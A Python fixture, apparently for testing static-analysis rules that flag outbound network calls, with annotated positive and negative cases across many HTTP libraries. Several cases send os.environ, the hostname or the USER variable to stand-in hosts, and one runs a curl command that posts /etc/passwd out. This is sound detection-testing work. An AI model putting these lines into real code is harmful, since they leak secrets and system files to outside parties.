"""Fixture for the generic HTTP client rules (never executed)."""
import http.client
import os
import socket
from urllib.request import Request, urlopen as uo

import aiohttp
import httpx
import requests
import requests as r
import urllib3
from requests import Session, post

# ruleid: network.requests host=api.example.net creds=-
requests.get("https://api.example.net/items")
# ruleid: network.requests
r.post("https://collector.example.net/v1", json={"env": dict(os.environ)})
# ruleid: network.requests
post(os.environ["UPLOAD_URL"], data=b"x")

s = requests.Session()
# ruleid: network.requests
s.put("https://api.example.net/x", data="1")
with Session() as sess:
    # ruleid: network.requests
    sess.request("DELETE", "https://api.example.net/x/1")


class Client:
    def __init__(self):
        self.http = requests.Session()

    def push(self, url, payload):
        # ruleid: network.requests
        return self.http.post(url, json=payload)


# ruleid: network.httpx
httpx.get("https://api.example.net/health")


async def upload(data):
    async with httpx.AsyncClient(base_url="https://files.example.net") as c:
        # ruleid: network.httpx
        await c.post("/upload", content=data)
    async with aiohttp.ClientSession() as session:
        # ruleid: network.aiohttp
        async with session.post("https://api.example.net/events", json=data) as resp:
            return await resp.text()


# ruleid: network.urllib
uo("http://203.0.113.9/beacon?h=" + socket.gethostname())
req = Request("https://api.example.net/x", data=b"1")
# ruleid: network.urllib
urlopen_result = uo(req)

# ruleid: network.urllib3
urllib3.PoolManager().request("POST", "https://api.example.net/x", body=b"1")

conn = http.client.HTTPSConnection("api.example.net")
# ruleid: network.http-client
conn.request("POST", "/v1/upload", b"body")

# Look-alikes
d = {"get": 1}
# ok: network.requests
d.get("get")
# ok: network.requests
print("requests.post('https://example.com')")  # requests.get in a comment


def handler(request):
    # ok: network.requests
    return request.POST.get("name")


class Session:  # a local class with the same name shadows the import
    def get(self, key):
        return key


# ok: network.requests
Session().get("k")

try:
    pass
except requests.RequestException:  # an import used only in except is not a finding
    pass

import httplib2
from tornado.httpclient import AsyncHTTPClient

# ruleid: network.other-http
httplib2.Http().request("https://api.example.net/x", "POST", body="1")


async def fetch():
    # ruleid: network.other-http
    return await AsyncHTTPClient().fetch("https://api.example.net/y")


class InProcessClient(httpx.AsyncClient):
    pass


async def in_process(app):
    # A client on an in-process transport calls the application itself: not egress.
    local = InProcessClient(transport=httpx.ASGITransport(app=app))
    # ok: network.httpx
    await local.get("/health")
    wsgi = httpx.Client(transport=httpx.WSGITransport(app=app))
    # ok: network.httpx
    wsgi.post("https://testserver/items", json={})
    remote = httpx.AsyncClient(transport=httpx.AsyncHTTPTransport(retries=2))
    # ruleid: network.httpx host=api.example.net
    await remote.get("https://api.example.net/items")



# Sends passed as values: the runner calls them with the arguments passed alongside.
import asyncio
import atexit
import functools
import threading
from concurrent.futures import ThreadPoolExecutor
from multiprocessing import Pool

COLLECT = "https://collect.example.net/x"
# ruleid: network.requests host=collect.example.net
threading.Thread(target=requests.post, args=(COLLECT,), kwargs={"data": dict(os.environ)}).start()
# ruleid: network.requests host=map.example.org
list(map(requests.get, ["https://map.example.org/a", "https://map.example.org/b"]))
with ThreadPoolExecutor() as pool:
    # ruleid: network.requests host=submit.example.org
    pool.submit(requests.post, "https://submit.example.org", data=b"x")
    # ruleid: network.requests host=pool-map.example.org
    pool.map(requests.get, [f"https://pool-map.example.org/{i}" for i in range(3)])
# ruleid: network.requests host=to-thread.example.org
asyncio.to_thread(requests.post, "https://to-thread.example.org")
# ruleid: network.requests host=executor.example.org
asyncio.get_event_loop().run_in_executor(None, requests.get, "https://executor.example.org")
# ruleid: network.requests host=starmap.example.org
Pool().starmap(requests.post, [("https://starmap.example.org", b"a")])
# ruleid: network.requests host=at-exit.example.org
atexit.register(requests.post, "https://at-exit.example.org", data=b"bye")
# ruleid: network.requests host=timer.example.org
threading.Timer(5.0, requests.post, args=("https://timer.example.org",)).start()
# ruleid: network.requests host=partial-thread.example.org
threading.Thread(target=functools.partial(requests.post, "https://partial-thread.example.org")).start()
send = requests.put
# ruleid: network.requests host=alias-thread.example.org
threading.Thread(target=send, args=("https://alias-thread.example.org",)).start()
# ruleid: covert.process-egress host=sys.example.org
threading.Thread(target=os.system, args=("curl -d @/etc/passwd https://sys.example.org",)).start()
# ok: network.requests
threading.Thread(target=print, args=("https://not-sent.example.org",)).start()
# ok: network.requests
list(map(len, ["https://not-sent.example.org"]))


def report_async(url, payload):
    # A wrapper whose send runs on a thread: each call is a site with the caller's host.
    # ruleid: network.requests
    threading.Thread(target=requests.post, args=(url,), kwargs={"json": payload}).start()


# ruleid: network.requests host=wrapped-thread.example.org
report_async("https://wrapped-thread.example.org", {"user": os.environ.get("USER")})

import urllib
import urllib.request
import six
from six.moves.urllib.request import urlretrieve as six_retrieve
from pyodide.http import pyfetch

# Opener objects and the legacy spellings.
opener = urllib.request.URLopener()
# ruleid: network.urllib host=203.0.113.60
opener.open("http://203.0.113.60/x")
# ruleid: network.urllib host=files.example.net
urllib.request.FancyURLopener().retrieve("ftp://files.example.net/pub/a.tgz", "/tmp/a.tgz")
# ruleid: network.urllib host=api.example.net
urllib.request.urlretrieve("https://api.example.net/a.bin", "/tmp/a.bin")
# ruleid: network.urllib host=api.example.net
six.moves.urllib.request.urlopen("https://api.example.net/six")
# ruleid: network.urllib host=files.example.net
six_retrieve("https://files.example.net/b.bin", "/tmp/b.bin")
# ruleid: network.urllib host=legacy.example.net
six.moves.urllib.request.URLopener().retrieve("http://legacy.example.net/c")


def fetch_default(url="http://defaults.example.net/cfg"):
    # ruleid: network.urllib host=defaults.example.net
    return urllib.request.urlopen(url)


# Local schemes and paths: urllib reads them from disk (or cannot open them at all).
# ok: network.urllib
uo("file:///etc/hostname")
# ok: network.urllib
urllib.request.urlretrieve("file:///bin/ls", "/tmp/ls2")
# ok: network.urllib
opener.open("file:///etc/os-release")
# ok: network.urllib
uo("data:text/plain;base64,aGVsbG8=")
# ok: network.urllib
uo("sftp://files.example.net/x")
# ok: network.urllib
opener.retrieve("ftps://files.example.net/x")
# ok: network.urllib
urllib.request.urlretrieve("/tmp/local.txt", "/tmp/copy.txt")
# ok: network.urllib
uo(Request("file:///tmp/r.txt"))
# ok: network.requests
requests.get("file:///etc/passwd")


def read_config(path="file:///srv/cfg.json"):
    # A local default, but callers may pass a remote URL (reported at the caller, below).
    # ruleid: network.urllib
    return uo(path)


# ruleid: network.urllib host=cfg.example.net
read_config("https://cfg.example.net/c.json")


async def browser_fetch(body):
    # ruleid: network.other-http host=api.example.net
    return await pyfetch("https://api.example.net/p", method="POST", body=body)

import webbrowser

# ruleid: network.webbrowser host=feedback.example.net
webbrowser.open("https://feedback.example.net/report?v=" + os.environ.get("USER", ""))
# ruleid: network.webbrowser host=docs.example.net
webbrowser.get("firefox").open_new_tab("https://docs.example.net/")
# ok: network.webbrowser
webbrowser.open("file:///tmp/report.html")

# A host that only a manifest-only rule names (pip's version check) stays the generic client's.
# ruleid: network.requests host=pypi.org
requests.get("https://pypi.org/pypi/egress-audit/json", timeout=5)
